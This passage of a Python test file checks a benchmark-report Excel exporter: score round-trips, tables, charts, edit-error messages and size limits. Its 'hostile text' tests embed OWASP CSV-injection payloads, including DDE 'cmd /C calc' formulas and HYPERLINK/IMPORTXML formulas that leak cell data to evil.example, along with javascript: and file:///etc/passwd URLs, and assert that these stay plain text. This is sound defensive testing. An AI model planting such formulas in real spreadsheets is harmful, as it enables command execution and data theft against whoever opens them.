@@ -1,0 +1,963 @@
+"""The Excel exporter and reader: content read back with openpyxl, python-calamine and LibreOffice."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import subprocess
+import time
+import tracemalloc
+import warnings
+import zipfile
+from collections.abc import Callable, Iterator
+from datetime import UTC, date, datetime
+from pathlib import Path
+from typing import IO, Any
+from xml.etree import ElementTree
+
+import attrs
+import openpyxl
+import pytest
+from defusedxml import DefusedXmlException
+from hypothesis import given
+from hypothesis import strategies as st
+from python_calamine import CalamineWorkbook
+
+import launchbrief
+from launchbrief import cli
+from launchbrief._reproducible import document_time, normalize_zip
+from launchbrief.exceptions import ExportError, InvalidLaunchError
+from launchbrief.exporters import _xlsx_archive, get_exporter
+from launchbrief.exporters import xlsx as xlsx_module
+from launchbrief.exporters._xlsx_layout import DATA_TABLES, escape_text, unescape_text
+from launchbrief.exporters.xlsx import SHEETS, XlsxExporter, XlsxTextWarning, read_workbook
+from launchbrief.model import Launch, Result, Scale, Source, SourceKind
+from tests.strategies import launches
+
+# Every score in the source article, as the article words it: benchmark, model, score.
+ARTICLE_NUMBERS = (
+    ("CharXiv Reasoning", "Muse Spark", 86.4),
+    ("CharXiv Reasoning", "Claude Opus 4.6 Max", 65.3),
+    ("CharXiv Reasoning", "Gemini 3.1 Pro High", 80.2),
+    ("CharXiv Reasoning", "GPT 5.4", 82.8),
+    ("CharXiv Reasoning", "Grok 4.2", 60.9),
+    ("MMMU Pro", "Muse Spark", 80.4),
+    ("SimpleVQA", "Muse Spark", 71.3),
+    ("HealthBench Hard", "Muse Spark", 42.8),
+    ("HealthBench Hard", "Claude Opus 4.6 Max", 14.8),
+    ("HealthBench Hard", "Gemini 3.1 Pro High", 20.6),
+    ("HealthBench Hard", "GPT 5.4", 40.1),
+    ("HealthBench Hard", "Grok 4.2", 20.3),
+)
+
+# OWASP's CSV-injection examples and their usual variants.
+OWASP_PAYLOADS = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "=1+2",
+    "=10+20+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    "'=1+1",
+    "%0A-3+3+cmd|' /C calc'!A0",
+)
+
+# Fields holding ids: they must stay valid slugs when texts are replaced.
+_ID_FIELDS = {"id", "benchmark", "model", "mode", "sources", "versus", "url"}
+
+
+# --------------------------------------------------------------------------- helpers
+
+
+@pytest.fixture(scope="module")
+def launch() -> Launch:
+    """The built-in launch."""
+    return launchbrief.load("muse-spark")
+
+
+@pytest.fixture(scope="module")
+def workbook_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The built-in launch exported by ``launchbrief export -f xlsx``."""
+    folder = tmp_path_factory.mktemp("export")
+    assert cli.main(["export", "-f", "xlsx", "-o", str(folder)]) == 0
+    return folder / "muse-spark.xlsx"
+
+
+def _export(launch: Launch, path: Path, **options: Any) -> Path:
+    XlsxExporter().export(launch, path, **options)
+    return path
+
+
+def _rows(path: Path, sheet: str) -> list[tuple[Any, ...]]:
+    workbook = openpyxl.load_workbook(path, read_only=True)
+    try:
+        return [tuple(row) for row in workbook[sheet].iter_rows(values_only=True)]
+    finally:
+        workbook.close()
+
+
+def _records(rows: list[tuple[Any, ...]] | list[list[Any]]) -> list[dict[str, Any]]:
+    header = [str(value) for value in rows[0]]
+    return [dict(zip(header, row, strict=False)) for row in rows[1:]]
+
+
+def _sheet_xml(path: Path) -> dict[str, bytes]:
+    with zipfile.ZipFile(path) as archive:
+        return {
+            name: archive.read(name)
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/sheet")
+        }
+
+
+def _evolve_texts(record: Any, texts: Iterator[str]) -> Any:
+    """``record`` with every free text (not ids, not URLs) replaced by the next of ``texts``."""
+    if isinstance(record, tuple):
+        return tuple(_evolve_texts(item, texts) for item in record)
+    if not attrs.has(type(record)):
+        return record
+    changes: dict[str, Any] = {}
+    for field in attrs.fields(type(record)):
+        value = getattr(record, field.name)
+        if field.name in _ID_FIELDS:
+            continue
+        if isinstance(value, str):
+            changes[field.name] = next(texts)
+        elif isinstance(value, tuple) and value and isinstance(value[0], str):
+            changes[field.name] = tuple(next(texts) for _item in value)
+        elif isinstance(value, tuple) or attrs.has(type(value)):
+            changes[field.name] = _evolve_texts(value, texts)
+    return attrs.evolve(record, **changes)
+
+
+def _cycle(values: tuple[str, ...]) -> Iterator[str]:
+    while True:
+        yield from values
+
+
+# --------------------------------------------------------------------------- the built-in workbook
+
+
+def test_cli_writes_the_workbook(workbook_path: Path) -> None:
+    """``launchbrief export -f xlsx`` writes ``muse-spark.xlsx``, a zip archive openpyxl opens."""
+    assert workbook_path.is_file()
+    assert zipfile.is_zipfile(workbook_path)
+    assert isinstance(get_exporter("xlsx"), XlsxExporter)
+    assert XlsxExporter.document is True
+    workbook = openpyxl.load_workbook(workbook_path, read_only=True)
+    assert workbook.sheetnames == list(SHEETS)
+    workbook.close()
+
+
+def test_article_numbers_in_results_with_openpyxl(workbook_path: Path) -> None:
+    """Every number of the article is a real number on the Results row of its benchmark and model."""
+    records = _records(_rows(workbook_path, "Results"))
+    found = {(r["Benchmark"], r["Model"]): r["Score"] for r in records if r["Score"] is not None}
+    for benchmark, model, score in ARTICLE_NUMBERS:
+        assert found[benchmark, model] == score
+        assert isinstance(found[benchmark, model], float)
+    assert len(found) == len(ARTICLE_NUMBERS)
+
+
+def test_article_numbers_in_benchmarks_with_openpyxl(workbook_path: Path) -> None:
+    """The Benchmarks matrix holds each article number at its benchmark's row and model's column."""
+    rows = _rows(workbook_path, "Benchmarks")
+    header = [str(value).removesuffix(" (launched)") for value in rows[0]]
+    matrix = {row[0]: dict(zip(header, row, strict=False)) for row in rows[1:]}
+    for benchmark, model, score in ARTICLE_NUMBERS:
+        assert matrix[benchmark][model] == score
+    assert rows[0][3] == "Muse Spark (launched)"
+
+
+def test_article_numbers_with_calamine(workbook_path: Path) -> None:
+    """python-calamine, reading independently, finds every article number in Results and Benchmarks."""
+    book = CalamineWorkbook.from_path(str(workbook_path))
+    results = _records(book.get_sheet_by_name("Results").to_python())
+    found = {(r["Benchmark"], r["Model"]): r["Score"] for r in results if r["Score"] != ""}
+    matrix_rows = book.get_sheet_by_name("Benchmarks").to_python()
+    header = [str(value).removesuffix(" (launched)") for value in matrix_rows[0]]
+    matrix = {row[0]: dict(zip(header, row, strict=True)) for row in matrix_rows[1:]}
+    for benchmark, model, score in ARTICLE_NUMBERS:
+        assert found[benchmark, model] == score
+        assert matrix[benchmark][model] == score
+    assert len(found) == len(ARTICLE_NUMBERS)
+    assert book.sheet_names == list(SHEETS)
+
+
+def test_results_rows_carry_analysis(workbook_path: Path, launch: Launch) -> None:
+    """Results rows show rank, gap, comparison, vendor-only flag and sources as the analysis gives them."""
+    records = _records(_rows(workbook_path, "Results"))
+    assert len(records) == len(launch.results)
+    by_key = {(r["Benchmark id"], r["Model id"]): r for r in records}
+    for board in launchbrief.leaderboards(launch):
+        for standing in board.standings:
+            row = by_key[board.benchmark.id, standing.model.id]
+            assert row["Rank"] == standing.rank
+            assert row["Gap to leader"] == pytest.approx(standing.gap, abs=1e-9)
+    arc = by_key["arc-agi-2", "muse-spark"]
+    assert arc["Comparison"] == "trails: gemini-3-1-pro, gpt-5-4"
+    assert arc["Score"] is None
+    assert arc["Claim"] == "trails Gemini 3.1 Pro and GPT 5.4 on ARC AGI 2"
+    assert arc["Vendor only"] is launchbrief.vendor_only(launch, launch.results[12])
+    assert arc["Source ids"] == "meta-chart, article"
+    assert arc["Provenance"] == "Meta benchmark chart; Source article"
+    assert by_key["agentic-coding", "muse-spark"]["Comparison"] == "not_clearly_ahead"
+
+
+def test_every_data_sheet_is_a_table(workbook_path: Path) -> None:
+    """Each data sheet is one Excel Table whose unique, space-free name and headers match its header row."""
+    workbook = openpyxl.load_workbook(workbook_path)
+    names = []
+    for sheet in [spec.sheet for spec in DATA_TABLES] + ["Launch", "Benchmarks"]:
+        ws = workbook[sheet]
+        assert len(ws.tables) == 1, sheet
+        table = next(iter(ws.tables.values()))
+        names.append(table.displayName)
+        assert " " not in table.displayName
+        header = [cell.value for cell in ws[1]]
+        columns = [column.name for column in table.tableColumns]
+        assert columns == header, sheet
+        assert all(isinstance(name, str) for name in header)
+        assert len({name.casefold() for name in header}) == len(header)
+        assert table.ref.startswith("A1:")
+        assert table.autoFilter is not None
+        assert table.tableStyleInfo.showRowStripes is True
+        assert ws.freeze_panes in ("A2", "B2")
+        assert all(ws.column_dimensions[c.column_letter].width >= 8 for c in ws[1])
+    assert len(set(names)) == len(names)
+
+
+def test_numbers_are_numbers_with_formats(workbook_path: Path) -> None:
+    """Scores, ranks and gaps are numeric cells with explicit number formats, never text."""
+    workbook = openpyxl.load_workbook(workbook_path)
+    ws = workbook["Results"]
+    header = [cell.value for cell in ws[1]]
+    for name in ("Score", "Rank", "Gap to leader"):
+        column = header.index(name) + 1
+        cells = [ws.cell(row, column) for row in range(2, ws.max_row + 1)]
+        filled = [cell for cell in cells if cell.value is not None]
+        assert filled, name
+        for cell in filled:
+            assert cell.data_type == "n", (name, cell.coordinate)
+            assert cell.number_format != "General", (name, cell.coordinate)
+    launch_sheet = workbook["Launch"]
+    values = {row[0].value: row[1] for row in launch_sheet.iter_rows(min_row=2)}
+    assert values["as_of"].value == datetime(2026, 11, 30)
+    assert values["as_of"].number_format == "yyyy-mm-dd"
+    assert values["schema_version"].value == 1
+
+
+_C = "{http://schemas.openxmlformats.org/drawingml/2006/chart}"
+_A = "{http://schemas.openxmlformats.org/drawingml/2006/main}"
+
+
+def _charts(path: Path) -> list[ElementTree.Element]:
+    with zipfile.ZipFile(path) as archive:
+        return [
+            ElementTree.fromstring(archive.read(name))
+            for name in archive.namelist()
+            if name.startswith("xl/charts/chart")
+        ]
+
+
+def test_at_least_three_native_bar_charts(workbook_path: Path) -> None:
+    """Native bar charts with axis titles and data labels; the launched model's bars in the accent colour."""
+    charts = _charts(workbook_path)
+    assert len(charts) >= 3
+    accent = xlsx_module.DEFAULT_ACCENT.lstrip("#")
+    titles = []
+    for chart in charts:
+        plot = chart.find(f"{_C}chart/{_C}plotArea")
+        assert plot is not None
+        assert plot.find(f"{_C}barChart") is not None
+        for axis in (f"{_C}catAx", f"{_C}valAx"):
+            assert plot.find(f"{axis}/{_C}title") is not None
+            assert plot.find(f"{axis}/{_C}delete").get("val") == "0"
+        for series in plot.iter(f"{_C}ser"):
+            assert series.find(f"{_C}dLbls/{_C}showVal").get("val") == "1"
+        title = "".join(t.text or "" for t in chart.find(f"{_C}chart/{_C}title").iter(f"{_A}t"))
+        titles.append(title)
+    category_charts = [
+        chart
+        for chart in charts
+        if any("'Benchmarks'!" in (f.text or "") for f in chart.iter(f"{_C}f"))
+    ]
+    assert len(category_charts) == 2
+    for chart in category_charts:
+        first = next(chart.iter(f"{_C}ser"))
+        assert first.find(f"{_C}tx/{_C}strRef/{_C}f").text == "'Benchmarks'!$D$1"
+        assert first.find(f"{_C}spPr/{_A}solidFill/{_A}srgbClr").get("val") == accent
+        others = list(chart.iter(f"{_C}ser"))[1:]
+        assert len(others) == 4
+        assert all(
+            s.find(f"{_C}spPr/{_A}solidFill/{_A}srgbClr").get("val") != accent for s in others
+        )
+    assert any(t.startswith("Multimodal scores") for t in titles)
+    assert any(t.startswith("Health scores") for t in titles)
+    assert any(t.startswith("Where Muse Spark leads and trails") for t in titles)
+    assert any(t.startswith("Where Muse Spark ships") for t in titles)
+    # Categories known only from the source's words get no empty chart.
+    for category in ("Reasoning", "Coding", "Agentic"):
+        assert not any(t.startswith(f"{category} scores") for t in titles)
+
+
+def test_chart_tables_hold_the_analysis(workbook_path: Path, launch: Launch) -> None:
+    """The cells the leads/trails and rollout charts draw from hold the analysis' counts."""
+    rows = [row for row in _rows(workbook_path, "Charts") if any(v is not None for v in row)]
+    cells = {row[1]: row[2:4] for row in rows if len(row) > 2 and row[1] is not None}
+    for summary in launchbrief.categories(launch):
+        if summary.leads or summary.trails:
+            assert cells[summary.category] == (summary.leads, summary.trails)
+    for status, surfaces in launchbrief.rollout(launch).groups:
+        assert cells[status.label][0] == len(surfaces)
+
+
+def test_benchmarks_matrix_marks_leaders_and_claims(workbook_path: Path) -> None:
+    """The matrix highlights each row's leader by rule, marks the launched column and notes qualitative claims."""
+    workbook = openpyxl.load_workbook(workbook_path)
+    ws = workbook["Benchmarks"]
+    rules = [(str(rng.sqref), rule) for rng in ws.conditional_formatting for rule in rng.rules]
+    assert len(rules) == 1
+    sqref, rule = rules[0]
+    assert sqref == f"D2:H{ws.max_row}"
+    assert "MAX($D2:$H2)" in rule.formula[0]
+    assert "MIN($D2:$H2)" in rule.formula[0]
+    header = {cell.value: cell for cell in ws[1]}
+    assert header["Muse Spark (launched)"].fill.fgColor.rgb.endswith(
+        xlsx_module.DEFAULT_ACCENT.lstrip("#")
+    )
+    rows = {row[0].value: row for row in ws.iter_rows(min_row=2)}
+    arc = rows["ARC AGI 2"][3]
+    assert arc.value is None
+    assert arc.comment is not None
+    assert arc.comment.text.startswith("trails Gemini 3.1 Pro High, GPT 5.4 — Meta benchmark chart")
+    livecode = rows["LiveCodeBench Pro"][3]
+    assert livecode.comment.text.startswith("trails GPT 5.4 — Meta benchmark chart")
+
+
+def test_matrix_notes_a_model_scored_in_several_modes(tmp_path: Path, launch: Launch) -> None:
+    """A model with numbers in several modes shows its best, with a note listing each mode."""
+    extra = (
+        Result(benchmark="mmmu-pro", model="gpt-5-4", mode="default", score=70.5),
+        Result(benchmark="mmmu-pro", model="gpt-5-4", mode="thinking", score=78.25),
+    )
+    record = attrs.evolve(launch, results=launch.results + extra)
+    path = _export(record, tmp_path / "modes.xlsx")
+    ws = openpyxl.load_workbook(path)["Benchmarks"]
+    header = [cell.value for cell in ws[1]]
+    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "MMMU Pro")
+    cell = row[header.index("GPT 5.4")]
+    assert cell.value == 78.25
+    assert (
+        cell.comment.text
+        == "Best of several modes: GPT 5.4 (Thinking): 78.25; GPT 5.4 (Default): 70.5"
+    )
+    assert read_workbook(path) == record
+
+
+def test_document_properties(workbook_path: Path, launch: Launch) -> None:
+    """Title, subject, creator ``launchbrief <version>`` and the pinned creation time are set."""
+    properties = openpyxl.load_workbook(workbook_path, read_only=True).properties
+    assert properties.title == launch.title
+    assert "Muse Spark" in properties.subject
+    assert properties.creator == f"launchbrief {launchbrief.__version__}"
+    assert properties.created == document_time()
+    assert properties.modified == document_time()
+
+
+def test_summary_and_about(workbook_path: Path, launch: Launch) -> None:
+    """Summary and About give the launch at a glance, the versions and how to re-import."""
+    summary = [v for row in _rows(workbook_path, "Summary") for v in row if isinstance(v, str)]
+    assert summary[0] == launch.title
+    assert launchbrief.rollout(launch).headline in summary
+    assert launchbrief.safety(launch).headline in summary
+    assert any(v.startswith(f"launchbrief {launchbrief.__version__}") for v in summary)
+    about = [v for row in _rows(workbook_path, "About") for v in row if isinstance(v, str)]
+    assert f"launchbrief {launchbrief.__version__}" in about
+    assert "version 1" in about
+    assert any('launchbrief.load("muse-spark.xlsx")' in v for v in about)
+    for sheet in SHEETS:
+        assert sheet in about
+
+
+# --------------------------------------------------------------------------- reading back
+
+
+def test_round_trip_builtin(workbook_path: Path, launch: Launch) -> None:
+    """``launchbrief.load`` of the exported workbook gives back the built-in record."""
+    assert launchbrief.load(workbook_path) == launch
+
+
+@given(launches())
+def test_round_trip_generated(tmp_path_factory: pytest.TempPathFactory, record: Launch) -> None:
+    """Any valid record, hostile text included, reads back equal; control characters are reported."""
+    path = tmp_path_factory.mktemp("rt") / "x.xlsx"
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        XlsxExporter().export(record, path)
+    texts = attrs.asdict(record, recurse=True)
+    illegal = any(
+        re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", text) for text in _all_strings(texts)
+    )
+    assert [type(w.message) for w in caught] == ([XlsxTextWarning] if illegal else [])
+    assert read_workbook(path) == record
+
+
+def _all_strings(value: Any) -> Iterator[str]:
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, dict):
+        for item in value.values():
+            yield from _all_strings(item)
+    elif isinstance(value, (list, tuple)):
+        for item in value:
+            yield from _all_strings(item)
+
+
+@given(st.text(alphabet=st.sampled_from("_x0123456789aAfF\x00\x01\x1f\ufffe")))
+def test_escapes_round_trip(text: str) -> None:
+    """Excel's ``_xHHHH_`` escaping gives back any text, literal escape-like sequences included."""
+    stored = escape_text(text)
+    assert unescape_text(stored) == text
+    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", stored)
+
+
+def test_control_characters_warn_and_round_trip(tmp_path: Path, launch: Launch) -> None:
+    """XML-illegal characters are written as escapes with a warning naming the field, and read back."""
+    record = attrs.evolve(launch, title="Bell\x07 and _x0041_ and \x00end")
+    path = tmp_path / "ctrl.xlsx"
+    with pytest.warns(XlsxTextWarning, match=r"1 text field\(s\).*\(title\)"):
+        _export(record, path)
+    assert read_workbook(path) == record
+
+
+def test_edited_workbook_loads_back(tmp_path: Path, launch: Launch) -> None:
+    """A changed cell, re-sorted rows, an added row and a changed field load back as edited."""
+    path = _export(launch, tmp_path / "edit.xlsx")
+    workbook = openpyxl.load_workbook(path)
+    ws = workbook["Results"]
+    header = [cell.value for cell in ws[1]]
+    width = len(header)
+    rows = [[cell.value for cell in row] for row in ws.iter_rows(min_row=2, max_col=width)]
+    rows.reverse()  # re-sorted, as an analyst sorting by a column would
+    score = header.index("Score")
+    grok = next(r for r in rows if r[0] == "charxiv-reasoning" and r[3] == "grok-4-2")
+    grok[score] = 61.5
+    new_row: list[Any] = [None] * width
+    new_row[header.index("Benchmark id")] = "mmmu-pro"
+    new_row[header.index("Model id")] = "gpt-5-4"
+    new_row[score] = "79"  # typed as text: numbers in text are read as numbers
+    new_row[header.index("Source ids")] = "meta-chart"
+    rows.append(new_row)  # below the table, as an analyst adds a row
+    for row_number, values in enumerate(rows, start=2):
+        for column, value in enumerate(values, start=1):
+            ws.cell(row_number, column).value = value
+    fields = workbook["Launch"]
+    title_row = next(row for row in fields.iter_rows(min_row=2) if row[0].value == "title")
+    title_row[1].value = "Edited title"
+    workbook.save(path)
+
+    results = list(reversed(launch.results))
+    position = next(
+        i
+        for i, r in enumerate(results)
+        if (r.benchmark, r.model) == ("charxiv-reasoning", "grok-4-2")
+    )
+    results[position] = attrs.evolve(results[position], score=61.5)
+    results.append(
+        Result(benchmark="mmmu-pro", model="gpt-5-4", score=79.0, sources=("meta-chart",))
+    )
+    expected = attrs.evolve(launch, title="Edited title", results=tuple(results))
+    assert launchbrief.load(path) == expected
+
+
+def test_edit_mistakes_are_located(tmp_path: Path, launch: Launch) -> None:
+    """Every mistake in an edited workbook is reported at once, naming sheet, cell and column."""
+    path = _export(launch, tmp_path / "wrong.xlsx")
+    workbook = openpyxl.load_workbook(path)
+    ws = workbook["Results"]
+    ws["H12"] = "n/a"  # Score of results[10]
+    ws["D5"] = "gpt5"  # Model id of results[3]
+    ws["M14"] = "trails: GPT 5.4"  # a name where an id belongs
+    modes = workbook["Modes"]
+    modes["C3"] = "two"  # Order of modes[1]
+    fields = workbook["Launch"]
+    fields.append(["modle.id", "x"])
+    workbook.save(path)
+    with pytest.raises(InvalidLaunchError) as caught:
+        launchbrief.load(path)
+    lines = [str(problem) for problem in caught.value.problems]
+    assert lines == [
+        f"{path}: Launch!A{fields.max_row} (Field): unknown field 'modle.id'; did you mean 'model.id'?",
+        f"{path}: Results!D5 (Model id): results[3].model: unknown model 'gpt5' (known:"
+        " claude-opus-4-6, gemini-3-1-pro, gpt-5-4, grok-4-2, muse-spark; did you mean 'gpt-5-4'?)",
+        f"{path}: Results!H12 (Score): results[10].score: expected a number, got 'n/a'",
+        f"{path}: Results!M14 (Comparison): results[12].comparisons: 'GPT 5.4' is not a model id:"
+        " list the ids of the Models sheet after the relation, as in 'trails: gpt-5-4, gemini-3-1-pro'",
+        f"{path}: Modes!C3 (Order): modes[1].order: expected a whole number, got 'two'",
+    ]
+
+
+def test_missing_sheet_or_column_is_reported(tmp_path: Path, launch: Launch) -> None:
+    """A deleted data sheet or read-back column is named in the error."""
+    path = _export(launch, tmp_path / "cut.xlsx")
+    workbook = openpyxl.load_workbook(path)
+    del workbook["Safety"]
+    workbook.save(path)
+    with pytest.raises(InvalidLaunchError, match="no sheet 'Safety'"):
+        launchbrief.load(path)
+    path = _export(launch, tmp_path / "cut.xlsx")
+    workbook = openpyxl.load_workbook(path)
+    workbook["Results"]["H1"] = "Points"
+    workbook.save(path)
+    with pytest.raises(InvalidLaunchError, match=r"Results!1:1: no column 'Score'"):
+        launchbrief.load(path)
+
+
+def test_subset_of_sheets_cannot_be_read_back(tmp_path: Path, launch: Launch) -> None:
+    """A workbook written with only some sheets says which data sheets it lacks."""
+    path = _export(launch, tmp_path / "part.xlsx", sheets=["Summary", "Results"])
+    assert openpyxl.load_workbook(path, read_only=True).sheetnames == ["Summary", "Results"]
+    with pytest.raises(InvalidLaunchError) as caught:
+        read_workbook(path)
+    assert {p.cell for p in caught.value.problems} == {
+        "Benchmark details", "Models", "Modes", "Rollout", "Safety", "Use cases", "Insights",
+        "Sources", "Launch",
+    }  # fmt: skip
+
+
+# --------------------------------------------------------------------------- hostile text
+
+
+def test_owasp_payloads_never_become_formulas(tmp_path: Path, launch: Launch) -> None:
+    """CSV-injection payloads in every text field stay quote-prefixed text cells and read back unchanged."""
+    record = _evolve_texts(launch, _cycle(OWASP_PAYLOADS))
+    record = attrs.evolve(
+        record,
+        sources=tuple(
+            attrs.evolve(s, url=p) for s, p in zip(record.sources, OWASP_PAYLOADS, strict=False)
+        ),
+    )
+    path = _export(record, tmp_path / "owasp.xlsx")
+    workbook = openpyxl.load_workbook(path)
+    seen = set()
+    for ws in workbook.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str) and cell.value in OWASP_PAYLOADS:
+                    seen.add(cell.value)
+                    if cell.value[0] in "=+-@\t\r":
+                        assert cell.quotePrefix, (ws.title, cell.coordinate)
+                assert cell.hyperlink is None  # none of the payload URLs is a link
+    assert seen == set(OWASP_PAYLOADS)
+    for name, xml in _sheet_xml(path).items():
+        assert not re.search(rb"<(\w+:)?f[ >/]", xml), name
+    assert read_workbook(path) == record
+
+
+def test_table_columns_match_headers_for_hostile_names(tmp_path: Path, launch: Launch) -> None:
+    """With hostile model names, every Table's column names still equal its header cells."""
+    names = ("=_x0041_ evil\n\x01", "=1+2", "+1+2", "\ufffd", "Muse Spark")
+    models = tuple(
+        attrs.evolve(model, name=name, variant=None)
+        for model, name in zip(launch.models, names, strict=True)
+    )
+    record = attrs.evolve(launch, models=models)
+    path = tmp_path / "names.xlsx"
+    with pytest.warns(XlsxTextWarning):
+        _export(record, path)
+    workbook = openpyxl.load_workbook(path)
+    for ws in workbook.worksheets:
+        for table in ws.tables.values():
+            header = [unescape_text(str(cell.value)) for cell in ws[1]]
+            assert [column.name for column in table.tableColumns] == header, ws.title
+            assert len({name.casefold() for name in header}) == len(header)
+    assert read_workbook(path) == record
+
+
+def test_only_web_and_mail_links_become_hyperlinks(tmp_path: Path, launch: Launch) -> None:
+    """http, https and mailto URLs are hyperlinks; javascript:, file: and others stay plain text."""
+    urls = ("https://example.com/a?b=1", "http://example.org", "mailto:desk@example.com",
+            "javascript:alert(1)", "file:///etc/passwd", "ftp://example.com/x", "www.example.com")  # fmt: skip
+    sources = tuple(
+        Source(id=f"s{i}", name=f"S{i}", kind=SourceKind.PRESS, url=url)
+        for i, url in enumerate(urls)
+    )
+    record = attrs.evolve(launch, sources=launch.sources + sources)
+    path = _export(record, tmp_path / "links.xlsx")
+    ws = openpyxl.load_workbook(path)["Sources"]
+    links = {
+        cell.value: cell.hyperlink.target
+        for row in ws.iter_rows()
+        for cell in row
+        if cell.hyperlink
+    }
+    assert links == {url: url for url in urls[:3]}
+    assert read_workbook(path) == record
+
+
+def test_hyperlinks_are_capped(
+    tmp_path: Path, launch: Launch, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Past Excel's per-sheet hyperlink limit, URLs stay plain text."""
+    monkeypatch.setattr(xlsx_module, "EXCEL_MAX_HYPERLINKS", 2)
+    sources = tuple(
+        Source(id=f"s{i}", name=f"S{i}", kind=SourceKind.PRESS, url=f"https://example.com/{i}")
+        for i in range(4)
+    )
+    path = _export(attrs.evolve(launch, sources=launch.sources + sources), tmp_path / "cap.xlsx")
+    ws = openpyxl.load_workbook(path)["Sources"]
+    assert sum(1 for row in ws.iter_rows() for cell in row if cell.hyperlink) == 2
+
+
+@pytest.mark.parametrize(
+    ("text", "ok"),
+    [("a" * 32_767, True), ("a" * 32_768, False), ("🚀" * 16_384, False), ("\x01" * 5_000, False)],
+    ids=["at-limit", "over-limit", "emoji-utf16", "escapes-grow"],
+)
+def test_cell_length_limit(tmp_path: Path, launch: Launch, text: str, ok: bool) -> None:
+    """Text over Excel's 32,767-character cell limit (as stored) is an ExportError naming the field, before writing."""
+    results = list(launch.results)
+    results[2] = attrs.evolve(results[2], claim=text)
+    record = attrs.evolve(launch, results=tuple(results))
+    stream = io.BytesIO()
+    target = tmp_path / "long.xlsx"
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", XlsxTextWarning)
+        if ok:
+            XlsxExporter().export(record, target)
+            assert read_workbook(target) == record
+            return
+        with pytest.raises(ExportError, match=r"results\[2\]\.claim: .* at most 32,767"):
+            XlsxExporter().export(record, stream)
+        with pytest.raises(ExportError):
+            launchbrief.export(record, target)
+    assert stream.getvalue() == b""
+    assert not target.exists()
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_too_many_rows_is_refused_before_writing(
+    tmp_path: Path, launch: Launch, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """More results than a sheet holds is an ExportError before any byte is written."""
+    monkeypatch.setattr(xlsx_module, "EXCEL_MAX_ROWS", len(launch.results))
+    target = tmp_path / "rows.xlsx"
+    target.write_bytes(b"old")
+    with pytest.raises(ExportError, match="the Results sheet would need 16 rows"):
+        launchbrief.export(launch, target)
+    assert target.read_bytes() == b"old"
+
+
+# --------------------------------------------------------------------------- options and output
+
+
+def test_two_exports_are_byte_identical(tmp_path: Path, launch: Launch) -> None:
+    """The same record gives the same bytes, already in normalize_zip()'s form."""
+    first = _export(launch, tmp_path / "a.xlsx").read_bytes()
+    stream = io.BytesIO()
+    XlsxExporter().export(launch, stream)
+    assert stream.getvalue() == first
+    assert normalize_zip(first) == first
+
+
+def test_source_date_epoch_is_honoured(
+    tmp_path: Path, launch: Launch, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """With SOURCE_DATE_EPOCH set, document times and zip entry times follow it."""
+    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1780000000")
+    path = _export(launch, tmp_path / "epoch.xlsx")
+    moment = datetime.fromtimestamp(1780000000, tz=UTC).replace(tzinfo=None)
+    assert openpyxl.load_workbook(path, read_only=True).properties.created == moment
+    with zipfile.ZipFile(path) as archive:
+        assert {info.date_time for info in archive.infolist()} == {moment.timetuple()[:6]}
+
+
+def test_options(tmp_path: Path, launch: Launch) -> None:
+    """Sheets, charts and accent options shape the workbook; bad options are ExportErrors."""
+    path = _export(launch, tmp_path / "o.xlsx", sheets=["charts", "Results"], accent="#00AA55")
+    workbook = openpyxl.load_workbook(path)
+    assert workbook.sheetnames == ["Benchmarks", "Charts", "Results"]  # charts need the matrix
+    assert workbook["Results"]["A1"].fill.fgColor.rgb.endswith("00AA55")
+    path = _export(launch, tmp_path / "n.xlsx", charts=False)
+    with zipfile.ZipFile(path) as archive:
+        assert not [n for n in archive.namelist() if n.startswith("xl/charts/")]
+    assert "Charts" not in openpyxl.load_workbook(path, read_only=True).sheetnames
+    assert read_workbook(path) == launch
+    for options, message in (
+        ({"accent": "blue"}, "accent must be a colour"),
+        ({"sheets": ["Nope"]}, "unknown sheet 'Nope'"),
+        ({"sheets": "Results"}, "a list of sheet names"),
+        ({"sheets": []}, "no sheets chosen"),
+    ):
+        with pytest.raises(ExportError, match=message):
+            XlsxExporter().export(launch, io.BytesIO(), **options)
+
+
+def test_large_record_streams_and_reads_back(tmp_path: Path, launch: Launch) -> None:
+    """A record past the row-fitting threshold exports in streaming mode and reads back equal."""
+    benchmarks = tuple(
+        attrs.evolve(launch.benchmarks[0], id=f"b{i}", name=f"Benchmark {i}") for i in range(260)
+    )
+    results = tuple(
+        Result(
+            benchmark=b.id, model=m.id, score=float((i * 7 + j) % 100) + 0.25, sources=("article",)
+        )
+        for i, b in enumerate(benchmarks)
+        for j, m in enumerate(launch.models)
+    )
+    results += tuple(
+        Result(benchmark=b.id, model=m.id, mode=mode.id, score=50.5, claim="c" * 120)
+        for b in benchmarks
+        for m in launch.models
+        for mode in launch.modes
+    )
+    record = attrs.evolve(launch, benchmarks=benchmarks, results=results)
+    assert len(record.results) > xlsx_module._FITTED_ROWS
+    path = _export(record, tmp_path / "big.xlsx")
+    assert read_workbook(path) == record
+
+
+# --------------------------------------------------------------------------- hostile workbooks
+
+
+def _rewrite(
+    path: Path, target: Path, replace: dict[str, bytes], add: dict[str, bytes] | None = None
+) -> Path:
+    with zipfile.ZipFile(path) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
+        for info in source.infolist():
